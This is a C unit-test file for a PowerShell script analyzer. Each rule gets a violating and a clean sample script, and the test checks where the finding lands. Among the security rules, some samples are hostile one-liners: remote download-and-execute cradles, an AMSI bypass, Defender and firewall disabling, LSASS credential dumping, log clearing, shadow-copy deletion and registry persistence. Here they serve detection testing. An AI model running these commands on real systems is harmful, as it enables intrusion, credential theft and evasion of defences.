/* test-analyzer-rules.c: one violating and one clean script per analyzer rule, extents checked */
#include "config.h"

#include <stdio.h>
#include <string.h>

#include <json-c/json.h>

#include "analyzer/analyzer.h"
#include "analyzer/catalog.h"
#include "core/core.h"
#include "t.h"

struct rule_case {
	const char	*id;
	const char	*bad;		/* must raise id ... */
	unsigned	 line, column;	/* ... at this position ... */
	const char	*extent;	/* ... with this extent (prefix for long ones) */
	const char	*good;		/* must not raise id */
};

#define B64_20 "aGVsbG8gd29ybGQ1MjM0"
#define B64_220 B64_20 B64_20 B64_20 B64_20 B64_20 B64_20 B64_20 B64_20 B64_20 B64_20 B64_20
#define A_130 "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" \
	"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"

static const struct rule_case cases[] = {
	{ "PSAvoidUsingCmdletAliases", "gci C:\\x", 1, 1, "gci", "Get-ChildItem C:\\x" },
	{ "PSAvoidUsingWriteHost", "Write-Host 'hi'", 1, 1, "Write-Host 'hi'",
	    "function Show-Banner { Write-Host 'hi' }" },
	{ "PSAvoidUsingPositionalParameters", "Copy-Item a b c", 1, 1, "Copy-Item a b c",
	    "Copy-Item -Path a -Destination b" },
	{ "PSAvoidGlobalVars", "$global:x = 1", 1, 1, "$global:x", "$script:x = 1" },
	{ "PSAvoidUsingEmptyCatchBlock", "try { 1 } catch { }", 1, 11, "catch { }",
	    "try { 1 } catch { Write-Error $_ }" },
	{ "PSUseApprovedVerbs", "function Grab-Item { }", 1, 10, "Grab-Item",
	    "function Get-Thing { }" },
	{ "PSUseSingularNouns", "function Get-Files { }", 1, 10, "Get-Files",
	    "function Get-File { }" },
	{ "PSUseShouldProcessForStateChangingFunctions", "function Set-Thing { param($a) $a }", 1,
	    10, "Set-Thing",
	    "function Set-Thing { [CmdletBinding(SupportsShouldProcess)] param($a) $a }" },
	{ "PSAvoidDefaultValueSwitchParameter", "function f { param([switch]$S = $true) $S }", 1,
	    20, "[switch]$S = $true", "function f { param([switch]$S) $S }" },
	{ "PSUseDeclaredVarsMoreThanAssignments", "$a = 1", 1, 1, "$a", "$a = 1; $a" },
	{ "PSPossibleIncorrectComparisonWithNull", "if ($x -eq $null) { }", 1, 5, "$x -eq $null",
	    "if ($null -eq $x) { }" },
	{ "PSAvoidAssignmentToAutomaticVariable", "$input = 1", 1, 1, "$input", "$in2 = 1" },
	{ "PSAvoidUsingWMICmdlet", "Get-WmiObject Win32_OS", 1, 1, "Get-WmiObject",
	    "Get-CimInstance Win32_OS" },
	{ "PSProvideCommentHelp", "function Get-A { }", 1, 10, "Get-A",
	    "<#\n.SYNOPSIS\nGets A.\n#>\nfunction Get-A { }" },
	{ "PSAvoidTrailingWhitespace", "Get-Date  \n", 1, 9, "  ", "Get-Date\n" },
	{ "PSAvoidUsingUsernameAndPasswordParams",
	    "function Connect-X { param($Username, $Password) }", 1, 10, "Connect-X",
	    "function Connect-X { param([pscredential]$Credential) }" },
	{ "PSUsePSCredentialType", "function f { param([string]$Credential) $Credential }", 1,
	    28, "$Credential", "function f { param([pscredential]$Credential) $Credential }" },
	{ "PSMisleadingBacktick", "Get-Date ` \n-Format o", 1, 10, "` ", "Get-Date `\n-Format o" },
	{ "PSAvoidSemicolonsAsLineTerminators", "Get-Date;\n", 1, 9, ";", "Get-Date; Get-Host\n" },
	{ "PSAvoidLongLines", "Write-Output '" A_130 "'", 1, 1, "Write-Output 'aaa",
	    "Write-Output 'short'" },
	{ "PSPossibleIncorrectUsageOfAssignmentOperator", "if ($a = 1) { }", 1, 5, "$a = 1",
	    "if ($a -eq 1) { }" },
	{ "PSPossibleIncorrectUsageOfRedirectionOperator", "if ($a > $b) { }", 1, 8, ">",
	    "if ($a -gt $b) { }" },
	{ "PSUseBOMForUnicodeEncodedFile", "Write-Output 'caf\xC3\xA9'", 1, 18, "\xC3\xA9",
	    "\xEF\xBB\xBFWrite-Output 'caf\xC3\xA9'" },
	{ "PSReservedCmdletChar", "function Get-A+b { }", 1, 10, "Get-A+b", "function Get-Ab { }" },
	{ "PSReservedParams", "function f { [CmdletBinding()] param($ErrorAction) $ErrorAction }",
	    1, 38, "$ErrorAction",
	    "function f { [CmdletBinding()] param($ErrAction) $ErrAction }" },
	{ "PSUseSupportsShouldProcess", "function f { param($WhatIf) $WhatIf }", 1, 20, "$WhatIf",
	    "function f { [CmdletBinding(SupportsShouldProcess)] param() }" },
	{ "PSShouldProcess", "function Remove-A { [CmdletBinding(SupportsShouldProcess)] param() 'x' }",
	    1, 10, "Remove-A",
	    "function Remove-A { [CmdletBinding(SupportsShouldProcess)] param()\n"
	    "if ($PSCmdlet.ShouldProcess('x')) { 'x' } }" },
	{ "PSAvoidShouldContinueWithoutForce",
	    "function f { [CmdletBinding()] param()\nif ($PSCmdlet.ShouldContinue('q', 'c')) { } }",
	    1, 10, "f",
	    "function f { [CmdletBinding()] param([switch]$Force)\n"
	    "if ($Force -or $PSCmdlet.ShouldContinue('q', 'c')) { } }" },
	{ "PSAvoidMultipleTypeAttributes", "function f { param([int][string]$a) $a }", 1, 20,
	    "[int][string]$a", "function f { param([int]$a) $a }" },
	{ "PSAvoidNullOrEmptyHelpMessageAttribute",
	    "function f { param([Parameter(HelpMessage='')]$a) $a }", 1, 31, "HelpMessage=''",
	    "function f { param([Parameter(HelpMessage='The a')]$a) $a }" },
	{ "PSUseLiteralInitializerForHashtable", "$h = New-Object Hashtable; $h", 1, 6,
	    "New-Object Hashtable", "$h = @{}; $h" },
	{ "PSAvoidExclaimOperator", "if (!$a) { }", 1, 5, "!", "if (-not $a) { }" },
	{ "PSUseCompatibleCmdlets", "Get-WmiObject Win32_OS", 1, 1, "Get-WmiObject",
	    "Get-CimInstance Win32_OS" },
	{ "PSUseCompatibleSyntax", "$a = $b ?? 1", 1, 9, "??", "#Requires -Version 7\n$a = $b ?? 1" },
	{ "PSUseProcessBlockForPipelineCommand",
	    "function f { param([Parameter(ValueFromPipeline)]$In) $In }", 1, 20,
	    "[Parameter(ValueFromPipeline)]$In",
	    "function f { param([Parameter(ValueFromPipeline)]$In)\nprocess { $In } }" },
	{ "PSAvoidOverwritingBuiltInCmdlets", "function Get-ChildItem { }", 1, 10, "Get-ChildItem",
	    "function Get-MyItem { }" },
	{ "PSUseCorrectCasing", "get-childitem", 1, 1, "get-childitem", "Get-ChildItem" },
	{ "PSAvoidDefaultValueForMandatoryParameter",
	    "function f { param([Parameter(Mandatory)]$a = 1) $a }", 1, 20,
	    "[Parameter(Mandatory)]$a = 1", "function f { param([Parameter(Mandatory)]$a) $a }" },
	{ "PSReviewUnusedParameter", "function f { param($a) 1 }", 1, 20, "$a",
	    "function f { param($a) $a }" },
	{ "PSSAvoidFormatInMiddleOfPipeline", "Get-Process | Format-Table | Sort-Object", 1, 15,
	    "Format-Table", "Get-Process | Sort-Object | Format-Table" },
	{ "PSAvoidUsingInvokeExpression", "Invoke-Expression $cmd", 1, 1, "Invoke-Expression $cmd",
	    "& $cmd" },
	{ "PSAvoidUsingPlainTextForPassword", "function f { param([string]$Password) $Password }",
	    1, 28, "$Password", "function f { param([securestring]$Password) $Password }" },
	{ "PSAvoidUsingConvertToSecureStringWithPlainText",
	    "$s = ConvertTo-SecureString $p -AsPlainText -Force; $s", 1, 6,
	    "ConvertTo-SecureString $p -AsPlainText -Force", "$s = Read-Host -AsSecureString; $s" },
	{ "PSAvoidUsingComputerNameHardcoded", "Get-Service -ComputerName 'srv01'", 1, 27,
	    "'srv01'", "Get-Service -ComputerName $Computer" },
	{ "PSAvoidUsingBrokenHashAlgorithms", "Get-FileHash x -Algorithm MD5", 1, 27, "MD5",
	    "Get-FileHash x -Algorithm SHA256" },
	{ "PSAvoidUsingAllowUnencryptedAuthentication",
	    "Invoke-RestMethod -Uri $u -AllowUnencryptedAuthentication", 1, 27,
	    "-AllowUnencryptedAuthentication", "Invoke-RestMethod -Uri $u" },
	{ "PSSAvoidDownloadCradle", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
	    1, 1, "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
	    "(New-Object Net.WebClient).DownloadFile('http://x/a.txt', 'a.txt')" },
	{ "PSSAvoidEncodedCommand", "powershell.exe -EncodedCommand ZQBjAGgAbwAgADEA", 1, 1,
	    "powershell.exe -EncodedCommand ZQBjAGgAbwAgADEA", "powershell.exe -File .\\x.ps1" },
	{ "PSSAvoidBase64Execution",
	    "$d = [Convert]::FromBase64String($b); [Reflection.Assembly]::Load($d)", 1, 39,
	    "[Reflection.Assembly]::Load($d)",
	    "$d = [Convert]::FromBase64String($b); [IO.File]::WriteAllBytes('x', $d)" },
	{ "PSSAvoidProcessInjectionApi",
	    "Add-Type @'\n[DllImport(\"kernel32.dll\")] public static extern IntPtr "
	    "VirtualAlloc(IntPtr a, uint s, uint t, uint p);\n'@", 1, 10, "@'\n[DllImport",
	    "Add-Type @'\n[DllImport(\"kernel32.dll\")] public static extern uint GetTickCount();\n'@" },
	{ "PSSAvoidReflectionAssemblyLoad", "[System.Reflection.Assembly]::Load($bytes)", 1, 1,
	    "[System.Reflection.Assembly]::Load($bytes)", "Add-Type -Path .\\lib.dll" },
	{ "PSSAvoidAmsiBypass", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
	    1, 54, "AmsiUtils", "[Ref].Assembly.GetType('System.Management.Automation.PSObject')" },
	{ "PSSAvoidDefenderTampering", "Set-MpPreference -DisableRealtimeMonitoring $true", 1, 1,
	    "Set-MpPreference -DisableRealtimeMonitoring $true",
	    "Set-MpPreference -DisableRealtimeMonitoring $false" },
	{ "PSSAvoidFirewallTampering", "Set-NetFirewallProfile -Profile Domain -Enabled False", 1, 1,
	    "Set-NetFirewallProfile", "Set-NetFirewallProfile -Profile Domain -Enabled True" },
	{ "PSSAvoidExecutionPolicyBypass", "Set-ExecutionPolicy Bypass -Scope Process", 1, 1,
	    "Set-ExecutionPolicy Bypass -Scope Process",
	    "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser" },
	{ "PSSAvoidCertificateValidationBypass",
	    "[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }", 1, 1,
	    "[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }",
	    "[Net.ServicePointManager]::SecurityProtocol = 'Tls12'" },
	{ "PSSAvoidHardcodedSecrets", "$apiKey = 'sk_3f9a8b7c6d5e4f3a'", 1, 1,
	    "$apiKey = 'sk_3f9a8b7c6d5e4f3a'", "$apiKey = $env:API_KEY" },
	{ "PSSAvoidRunKeyPersistence",
	    "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' "
	    "-Name x -Value y", 1, 57, "\\CurrentVersion\\Run",
	    "Set-ItemProperty -Path 'HKCU:\\Software\\Contoso' -Name x -Value y" },
	{ "PSSReviewScheduledTaskPersistence", "Register-ScheduledTask -TaskName t -Action $a", 1, 1,
	    "Register-ScheduledTask -TaskName t -Action $a", "Get-ScheduledTask -TaskName t" },
	{ "PSSAvoidWmiEventSubscription",
	    "Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments $f", 1, 24,
	    "__EventFilter", "Get-CimInstance -ClassName Win32_Service" },
	{ "PSSReviewServiceCreation", "New-Service -Name svc -BinaryPathName C:\\svc.exe", 1, 1,
	    "New-Service -Name svc -BinaryPathName C:\\svc.exe", "Get-Service -Name svc" },
	{ "PSSAvoidCredentialDumping",
	    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
	    1, 34, "comsvcs.dll, MiniDump", "rundll32.exe shell32.dll,Control_RunDLL" },
	{ "PSSAvoidEventLogClearing", "Clear-EventLog -LogName Security", 1, 1,
	    "Clear-EventLog -LogName Security", "Get-EventLog -LogName Security -Newest 5" },
	{ "PSSAvoidShadowCopyDeletion", "vssadmin.exe delete shadows /all /quiet", 1, 1,
	    "vssadmin.exe delete shadows", "vssadmin.exe list shadows" },
	{ "PSSAvoidDestructiveDiskOperations", "Format-Volume -DriveLetter D", 1, 1,
	    "Format-Volume -DriveLetter D", "Get-Volume -DriveLetter D" },
	{ "PSSAvoidLocalAdminCreation", "Add-LocalGroupMember -Group Administrators -Member bob", 1,
	    1, "Add-LocalGroupMember -Group Administrators -Member bob",
	    "Add-LocalGroupMember -Group Users -Member bob" },
	{ "PSSAvoidHiddenWindow", "Start-Process notepad -WindowStyle Hidden", 1, 1,
	    "Start-Process notepad -WindowStyle Hidden", "Start-Process notepad -WindowStyle Normal" },
	{ "PSSAvoidInterpreterWithAttackCode",
	    "Start-Process powershell -ArgumentList '-c iex (iwr http://192.0.2.1/a)'", 1, 1,
	    "Start-Process powershell -ArgumentList",
	    "Start-Process powershell -ArgumentList '-c Get-Date'" },
	{ "PSSAvoidPersistedAttackCommand",
	    "New-Service -Name x -BinaryPathName 'powershell -c iex (iwr http://192.0.2.1/a)'", 1, 1,
	    "New-Service -Name x", "New-Service -Name x -BinaryPathName 'C:\\Apps\\x.exe'" },
	{ "PSSAvoidDownloadThenExecute",
	    "iwr http://192.0.2.1/a -OutFile C:\\t\\a.exe\n& C:\\t\\a.exe", 2, 1, "& C:",
	    "iwr http://192.0.2.1/a -OutFile C:\\t\\a.exe\nGet-FileHash C:\\t\\a.exe" },
	{ "PSSAvoidSystemBinaryProxy", "certutil -urlcache -f http://192.0.2.1/a a.exe", 1, 1,
	    "certutil -urlcache", "certutil -hashfile a.exe SHA256" },
	{ "PSSObfuscationBacktick", "I`nv`oke-Expression $x", 1, 1, "I`nv`oke-Expression",
	    "Invoke-Expression $x" },
	{ "PSSObfuscationStringReversal", "$r = $s[-1..-($s.Length)] -join ''", 1, 6,
	    "$s[-1..-($s.Length)]", "$r = $s[0..3] -join ''" },
	{ "PSSObfuscationCharCodes", "$c = [char[]](73,69,88,32) -join ''", 1, 6,
	    "[char[]](73,69,88,32)", "$c = 'IEX '" },
	{ "PSSObfuscationFormatOperator", "$c = '{2}{0}{1}' -f 'ke-Ex','pression','Invo'", 1, 6,
	    "'{2}{0}{1}' -f 'ke-Ex','pression','Invo'", "$c = '{0} {1}' -f 'a','b'" },
	{ "PSSObfuscationRandomCase", "InVoKe-ExPrEsSiOn $x", 1, 1, "InVoKe-ExPrEsSiOn",
	    "Invoke-Expression $x" },
	{ "PSSObfuscationHighEntropyString", "$k = 'Xq9#vL2@pZ7!mN4$wR8%tY1^bC6&hJ3*fG5(dK0)sA'", 1,
	    6, "'Xq9#vL2@pZ7!mN4$wR8%tY1^bC6&hJ3*fG5(dK0)sA'",
	    "$k = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'" },
	{ "PSSObfuscationBase64Blob", "$p = '" B64_220 "'", 1, 6, "'aGVsbG8gd29y",
	    "$p = 'aGVsbG8gd29ybGQ1MjM0'" },
	{ "PSSObfuscationDynamicCommandName", "& ('Get-'+'Date')", 1, 3, "('Get-'+'Date')",
	    "& 'Get-Date'" },
	{ "PSSAvoidArrayAdditionInLoop", "$a = @()\nforeach ($i in 1..3) { $a += $i }\n$a", 2, 24,
	    "$a += $i", "$a = foreach ($i in 1..3) { $i }\n$a" },
	{ "PSSUseFilterLeft", "Get-ChildItem | Where-Object { $_.Name -like '*.txt' }", 1, 17,
	    "Where-Object { $_.Name -like '*.txt' }", "Get-ChildItem -Filter *.txt" },
	{ "PSSAvoidOutNull", "Get-Date | Out-Null", 1, 12, "Out-Null", "$null = Get-Date" },
	{ "PSSUsePSCustomObjectLiteral", "New-Object PSObject -Property @{ a = 1 }", 1, 1,
	    "New-Object PSObject -Property @{ a = 1 }", "[pscustomobject]@{ a = 1 }" },
	{ "PSSAvoidStringConcatenationInLoop", "$s = ''\nforeach ($i in 1..3) { $s += \"$i\" }\n$s",
	    2, 24, "$s += \"$i\"", "$s = (1..3) -join ''\n$s" },
	{ "PSSReviewRemoteExecution", "Invoke-Command -ComputerName $c -ScriptBlock { hostname }",
	    1, 1, "Invoke-Command -ComputerName $c", "Invoke-Command -ScriptBlock { hostname }" },
	{ "PSSReviewRecursiveForceDelete", "Remove-Item -Path $dir -Recurse -Force", 1, 1,
	    "Remove-Item -Path $dir -Recurse -Force", "Remove-Item -Path $file" },
	{ "PSSReviewSystemRestart", "Restart-Computer -Force", 1, 1, "Restart-Computer -Force",
	    "Get-ComputerInfo" },
	{ "PSSReviewServiceChange", "Stop-Service -Name Spooler", 1, 1, "Stop-Service -Name Spooler",
	    "Get-Service -Name Spooler" },
	{ "PSSReviewProcessTermination", "Stop-Process -Name notepad", 1, 1,
	    "Stop-Process -Name notepad", "Get-Process -Name notepad" },
	{ "PSSReviewRegistryChange", "Set-ItemProperty -Path HKCU:\\Software\\Contoso -Name a -Value 1",
	    1, 1, "Set-ItemProperty -Path HKCU:", "Get-ItemProperty -Path HKCU:\\Software\\Contoso" },
	{ "PSSReviewAccountChange", "New-LocalUser -Name bob -NoPassword", 1, 1,
	    "New-LocalUser -Name bob -NoPassword", "Get-LocalUser -Name bob" },
	{ "PSSReviewNetworkAccess", "Invoke-RestMethod -Uri $u", 1, 1, "Invoke-RestMethod -Uri $u",
	    "Get-Content $f" },
	{ "PSSReviewElevation", "#Requires -RunAsAdministrator\nGet-Date", 1, 1,
	    "#Requires -RunAsAdministrator", "Get-Date" },
	/* U+202E in a comment (three bytes, one character) */
	{ "PSSAvoidBidirectionalControlCharacters", "# ok \xE2\x80\xAE }x{\nGet-Date", 1, 6,
	    "\xE2\x80\xAE", "# plain text, and U+202F (not a control): \xE2\x80\xAF\nGet-Date" },
	/* PSScriptAnalyzer's rules of rules_module.c, from each rule's documented examples */
	{ "PSAvoidGlobalAliases", "New-Alias -Name Name -Value Value -Scope 'Global'", 1, 1,
	    "New-Alias -Name Name -Value Value -Scope 'Global'",
	    "New-Alias -Name Name1 -Value Value" },
	{ "PSAvoidGlobalFunctions", "function global:functionName {}", 1, 10,
	    "global:functionName", "function functionName {}" },
	{ "PSAvoidInvokingEmptyMembers", "$MyString = 'abc'\n$MyString.('len'+'gth')", 2, 11,
	    "('len'+'gth')", "$MyString = 'abc'\n$MyString.('length')\n$o.$name" },
	{ "PSAvoidReservedWordsAsFunctionNames", "function function { 'x' }", 1, 10, "function",
	    "function Get-Function { 'x' }" },
	{ "PSAvoidUsingDeprecatedManifestFields", "@{\n    ModuleToProcess = 'psscriptanalyzer'\n"
	    "    ModuleVersion = '1.0'\n}", 2, 5, "ModuleToProcess",
	    "@{\n    RootModule = 'psscriptanalyzer'\n    ModuleVersion = '1.0'\n}" },
	{ "PSMissingModuleManifestField", "@{\n    Author = 'Me'\n    RootModule = 'x.psm1'\n}", 1, 1,
	    "@{", "@{\n    ModuleVersion = '1.0.0'\n    RootModule = 'x.psm1'\n}" },
	{ "PSUseToExportFieldsInManifest", "@{\n    ModuleVersion = '1.0'\n    FunctionsToExport = '*'\n}",
	    3, 25, "'*'", "@{\n    ModuleVersion = '1.0'\n    FunctionsToExport = @('Get-Foo', "
	    "'Set-Foo')\n    CmdletsToExport = @()\n}" },
	{ "PSUseCmdletCorrectly", "function Set-TodaysDate ()\n{\n    Set-Date\n}", 3, 5, "Set-Date",
	    "function Set-TodaysDate ()\n{\n    $date = Get-Date\n    Set-Date -Date $date\n    "
	    "Set-Date $date\n    $date | Write-Output\n}" },
	{ "PSUseOutputTypeCorrectly", "function Get-Foo {\n    [CmdletBinding()]\n    [OutputType([int])]\n"
	    "    param()\n    return 'four'\n}", 5, 5, "return 'four'",
	    "function Get-Foo {\n    [CmdletBinding()]\n    [OutputType([string])]\n    param()\n"
	    "    return 'four'\n}" },
	{ "PSUseUsingScopeModifierInNewRunspaces", "$var = 'foo'\n1..2 | ForEach-Object -Parallel "
	    "{ $var }", 2, 35, "$var", "$var = 'foo'\n1..2 | ForEach-Object -Parallel { $using:var }\n"
	    "Invoke-Command -ComputerName 'foo' -ScriptBlock { $x = 1; $x; $_ }\n"
	    "Invoke-Command -ScriptBlock { $var }" },
	{ "PSUseUTF8EncodingForHelpFile", "TOPIC\n    about_x \xE9t\xE9\n", 1, 1, "",
	    "TOPIC\n    about_x \xC3\xA9t\xC3\xA9\n" },
	/* the DSC folder rules: run_only names a file on disk in a folder with no Examples or
	 * Tests (test-analyzer-cli.c has the folders) */
	{ "PSDSCDscExamplesPresent", "[DscResource()]\nclass MyRes {\n  [DscProperty(Key)] "
	    "[string] $Name\n}", 1, 1, "", "class MyRes {\n  [string] $Name\n}" },
	{ "PSDSCDscTestsPresent", "[DscResource()]\nclass MyRes {\n  [DscProperty(Key)] "
	    "[string] $Name\n}", 1, 1, "", "class MyRes {\n  [string] $Name\n}" },
	{ "PSDSCStandardDSCFunctionsInResource", "function Get-TargetResource { param() "
	    "Write-Verbose 'g'; @{} }\nfunction Set-TargetResource { param() Write-Verbose 's' }", 1, 10,
	    "Get-TargetResource", "function Get-TargetResource { param() Write-Verbose 'g'; @{} }\n"
	    "function Set-TargetResource { param() Write-Verbose 's' }\n"
	    "function Test-TargetResource { param() Write-Verbose 't'; $true }" },
	{ "PSDSCUseIdenticalMandatoryParametersForDSC", "function Get-TargetResource { "
	    "param([Parameter(Mandatory)] $Name) @{} }\nfunction Set-TargetResource { param($Name) }\n"
	    "function Test-TargetResource { param([Parameter(Mandatory)] $Name) $true }", 2, 10,
	    "Set-TargetResource", "function Get-TargetResource { param([Parameter(Mandatory)] $Name) "
	    "@{} }\nfunction Set-TargetResource { param([Parameter(Mandatory)] $Name) }\n"
	    "function Test-TargetResource { param([Parameter(Mandatory)] $Name) $true }" },
	{ "PSDSCUseIdenticalParametersForDSC", "function Get-TargetResource { param($Name) @{} }\n"
	    "function Set-TargetResource { param($Name, $Value) }\nfunction Test-TargetResource "
	    "{ param($Name) $true }", 3, 10, "Test-TargetResource",
	    "function Get-TargetResource { param($Name) @{} }\nfunction Set-TargetResource "
	    "{ param($Name, $Value) }\nfunction Test-TargetResource { param($Name, $Value) $true }" },
	{ "PSDSCReturnCorrectTypesForDSCFunctions", "function Get-TargetResource { param() @{} }\n"
	    "function Set-TargetResource { param() return $true }\nfunction Test-TargetResource "
	    "{ param() return $true }", 2, 39, "return $true",
	    "function Get-TargetResource { param() return @{ Name = 'x' } }\nfunction "
	    "Set-TargetResource { param() }\nfunction Test-TargetResource { param() return $true }\n"
	    "[DscResource()]\nclass R { [R] Get() { return $this }\n[void] Set() { }\n"
	    "[bool] Test() { return $true } }" },
	{ "PSDSCUseVerboseMessageInDSCResource", "function Get-TargetResource { param() @{} }\n"
	    "function Set-TargetResource { param() Write-Verbose 's' }\nfunction Test-TargetResource "
	    "{ param() Write-Verbose 't'; $true }", 1, 10, "Get-TargetResource",
	    "function Get-TargetResource { param() Write-Verbose 'g'; @{} }\n"
	    "function Set-TargetResource { param() Write-Verbose 's' }\nfunction Test-TargetResource "
	    "{ param() Write-Verbose 't'; $true }" },
	/* the documented example; a single quote, an escape or an expansion inside keeps them */
	{ "PSAvoidUsingDoubleQuotesForConstantString", "$constantValue = \"I Love PowerShell\"", 1, 18,
	    "\"I Love PowerShell\"", "$a = 'I Love PowerShell'; $b = \"it's\"; $c = \"a`tb\"; "
	    "$d = \"$PID-$(hostname)\"; $e = \"say \"\"hi\"\"\"; $f = @\"\nx\n\"@" },
	/* the documented example (OnSameLine); one-line blocks and command arguments are left */
	{ "PSPlaceOpenBrace", "function foo ($param1)\n{\n\n}\n", 2, 1, "{",
	    "function foo ($param1) {\n\n}\n$x = if ($true) { 'a' } else { 'b' }\n"
	    "Get-Process | % { $_ }\n" },
	/* the formatting rules' documented examples (default options) */
	{ "PSPlaceCloseBrace", "if ($true) {\n    'example' }\nGet-Process\n", 2, 14, " }",
	    "if ($true) {\n    'example'\n}\nGet-Process\n" },
	{ "PSUseConsistentIndentation", "function Get-ItemName {\n    param(\n      [string]$Path\n"
	    "    )\n\n    if ($Path) {\n      Get-Item $Path |\n      Select-Object -ExpandProperty Name\n"
	    "    }\n}\n", 3, 1, "      ",
	    "function Get-ItemName {\n    param(\n        [string]$Path\n    )\n\n    if ($Path) {\n"
	    "        Get-Item $Path |\n            Select-Object -ExpandProperty Name\n    }\n}\n" },
	{ "PSUseConsistentWhitespace", "if($true) {foo| ForEach-Object{ $_ -eq 1}}\n@{a = 1;b = 2}\n",
	    1, 3, "(", "if ($true) { foo | ForEach-Object { $_ -eq 1 } }\n@{a = 1; b = 2}\n" },
	{ "PSAlignAssignmentStatement", "$hashtable = @{\n    property = 'value'\n"
	    "    anotherProperty = 'another value'\n}\n", 2, 13, " =",
	    "$hashtable = @{\n    property        = 'value'\n    anotherProperty = 'another value'\n}\n"
	    "enum Enum {\n    member        = 1\n    anotherMember = 2\n}\n$h = @{ a = 1; bb = 2 }\n" },
};

static struct ps_analysis *
run_only(const char *src, const char *id)
{
	struct ps_analyze_opts o;
	struct ps_analysis *a = NULL;
	const char *ids[1] = { id };

	memset(&o, 0, sizeof(o));
	o.include_rules = ids;
	o.ninclude = 1;
	if (strcmp(id, "PSUseUTF8EncodingForHelpFile") == 0)
		o.file_name = "en-US/about_x.help.txt";
	if (strncmp(id, "PSDSCDsc", 8) == 0) {
		o.file_name = "/nonexistent-pss-dsc/MyRes.psm1";
		o.on_disk = true;
	}
	if (ps_analyze(src, strlen(src), &o, &a) != PSS_OK)
		return NULL;
	return a;
}

static size_t
utf8_chars(const char *s)
{
	size_t n = 0;

	for (; *s; s++)
		if (((unsigned char)*s & 0xC0) != 0x80)
			n++;
	return n;
}

/* Every rule has a case, and every case names a rule. */
static void
test_every_rule_has_a_case(void)
{
	size_t n;
	const struct ps_rule_info *r = ps_rules(&n);

	T_ASSERTF(n >= 45, "only %zu rules", n);
	for (size_t i = 0; i < n; i++) {
		bool found = false;

		for (size_t k = 0; k < PSS_ARRAY_LEN(cases); k++)
			if (strcmp(cases[k].id, r[i].id) == 0)
				found = true;
		T_ASSERTF(found, "rule %s has no test case", r[i].id);
		T_ASSERTF(r[i].title != NULL && r[i].suggestion != NULL, "rule %s lacks text", r[i].id);
	}
	for (size_t k = 0; k < PSS_ARRAY_LEN(cases); k++)
		T_ASSERTF(ps_rule_find(cases[k].id) != NULL, "case names unknown rule %s",
		    cases[k].id);
}

static void
check_case(const struct rule_case *c)
{
	struct ps_analysis *a = run_only(c->bad, c->id);
	const struct ps_finding *hit = NULL;
	char name[160];
	int ok = 1;

	if (a == NULL) {
		snprintf(name, sizeof(name), "%s: analysis failed", c->id);
		t_result(0, name);
		return;
	}
	for (size_t i = 0; i < a->nfindings; i++)
		if (strcmp(a->findings[i].rule->id, c->id) == 0 && hit == NULL)
			hit = &a->findings[i];
	if (hit == NULL) {
		printf("#   %s: no finding in %s\n", c->id, c->bad);
		ok = 0;
	} else {
		if (hit->line != c->line || hit->column != c->column) {
			printf("#   %s: at %u:%u, want %u:%u\n", c->id, hit->line, hit->column, c->line,
			    c->column);
			ok = 0;
		}
		if (strncmp(hit->extent, c->extent, strlen(c->extent)) != 0 &&
		    strncasecmp(hit->extent, c->extent, strlen(c->extent)) != 0) {
			printf("#   %s: extent \"%s\", want \"%s\"\n", c->id, hit->extent, c->extent);
			ok = 0;
		}
		/* single-line extents: endColumn is the column after the last character */
		if (hit->end_line == hit->line && strchr(hit->extent, '\n') == NULL &&
		    strlen(hit->extent) < 200 &&
		    hit->end_column != hit->column + utf8_chars(hit->extent)) {
			printf("#   %s: endColumn %u, want %zu\n", c->id, hit->end_column,
			    hit->column + utf8_chars(hit->extent));
			ok = 0;
		}
		if (hit->message == NULL || hit->message[0] == '\0' || hit->suggestion == NULL) {
			printf("#   %s: no message or suggestion\n", c->id);
			ok = 0;
		}
	}
	ps_analysis_free(a);
	snprintf(name, sizeof(name), "%s raises on the violating script", c->id);
	t_result(ok, name);

	a = run_only(c->good, c->id);
	ok = a != NULL;
	for (size_t i = 0; a != NULL && i < a->nfindings; i++) {
		if (strcmp(a->findings[i].rule->id, c->id) == 0) {
			printf("#   %s: clean script raised \"%s\" at %u:%u\n", c->id,
			    a->findings[i].message, a->findings[i].line, a->findings[i].column);
			ok = 0;
		}
	}
	ps_analysis_free(a);
	snprintf(name, sizeof(name), "%s is quiet on the clean script", c->id);
	t_result(ok, name);
}

static void
test_unknown_rule_is_einval(void)
{
	struct ps_analyze_opts o;
	struct ps_analysis *a = NULL;
	const char *ids[1] = { "NoSuchRule" };

	memset(&o, 0, sizeof(o));
	o.include_rules = ids;
	o.ninclude = 1;
	T_EQ(ps_analyze("Get-Date", 8, &o, &a), PSS_EINVAL);
	T_ASSERT(a == NULL);
	ids[0] = "PSAvoid*";
	T_EQ(ps_analyze("gci", 3, &o, &a), PSS_OK);
	T_ASSERT(a != NULL && a->nfindings == 1);
	ps_analysis_free(a);
}

static void
test_severity_filter_keeps_scores(void)
{
	const char *src = "gci | ? { $_ }\nWrite-Host x  \n";
	struct ps_analyze_opts o;
	struct ps_analysis *all = NULL, *errs = NULL;

	memset(&o, 0, sizeof(o));
	T_EQ(ps_analyze(src, strlen(src), NULL, &all), PSS_OK);
	o.min_severity = PS_SEV_ERROR;
	T_EQ(ps_analyze(src, strlen(src), &o, &errs), PSS_OK);
	T_ASSERT(all->nfindings > 0);
	T_EQ(errs->nfindings, 0);
	T_ASSERT(all->quality_score == errs->quality_score);
	ps_analysis_free(all);
	ps_analysis_free(errs);
}

static void
test_catalog_lookups(void)
{
	const struct ps_alias_info *al;
	const struct ps_cmdlet_info *c;
	const struct ps_param_info *p;

	T_ASSERT(ps_catalog_ncmdlets > 300);
	c = ps_catalog_resolve("gci", 3, &al);
